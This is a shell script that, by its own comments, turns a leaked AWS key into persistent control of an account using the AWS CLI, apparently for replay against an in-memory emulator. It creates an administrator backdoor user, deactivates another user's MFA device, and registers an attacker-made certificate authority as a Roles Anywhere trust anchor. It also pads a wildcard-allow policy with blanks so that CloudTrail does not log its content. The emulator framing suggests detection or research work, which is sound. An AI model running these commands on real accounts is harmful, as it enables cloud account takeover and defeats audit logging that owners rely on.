#!/bin/sh
# From a leaked key to an account that trusts the attacker, by the AWS CLI alone.
# Against an AWS in memory:  trailproof capture --world backdoor-world.yml -- sh backdoor.sh
set -eu
umask 077
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

# Before 2.13 the AWS CLI takes the address only as an option.
aws() { command aws --endpoint-url "$AWS_ENDPOINT_URL" --output text "$@"; }

# A user of one's own: a key, and the administrator policy.
aws iam create-user --user-name aws-backup >/dev/null
key=$(aws iam create-access-key --user-name aws-backup \
  --query 'AccessKey.[AccessKeyId,SecretAccessKey]')
aws iam attach-user-policy --user-name aws-backup \
  --policy-arn arn:aws:iam::aws:policy/AdministratorAccess

# From here on with that key.
AWS_ACCESS_KEY_ID=$(printf %s "$key" | cut -f1)
AWS_SECRET_ACCESS_KEY=$(printf %s "$key" | cut -f2)
export AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY

# The second factor of somebody else.
device=$(aws iam list-mfa-devices --user-name alice --query 'MFADevices[0].SerialNumber')
aws iam deactivate-mfa-device --user-name alice --serial-number "$device"

# A certificate authority of one's own, which the account trusts from now on.
openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj '/CN=servers' \
  -keyout "$work/ca.key" -out "$work/ca.pem" 2>/dev/null
cat >"$work/source.json" <<JSON
{ "sourceType": "CERTIFICATE_BUNDLE",
  "sourceData": { "x509CertificateData": "$(awk '{printf "%s\\n", $0}' "$work/ca.pem")" } }
JSON
aws rolesanywhere create-trust-anchor --name servers --enabled \
  --source "file://$work/source.json" >/dev/null

# A policy so long that CloudTrail does not keep what it says: blanks do not count for IAM.
{
  printf '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]'
  printf '%103000s' ''
  printf '}'
} >"$work/policy.json"
aws iam create-policy --policy-name tooling --policy-document "file://$work/policy.json" >/dev/null
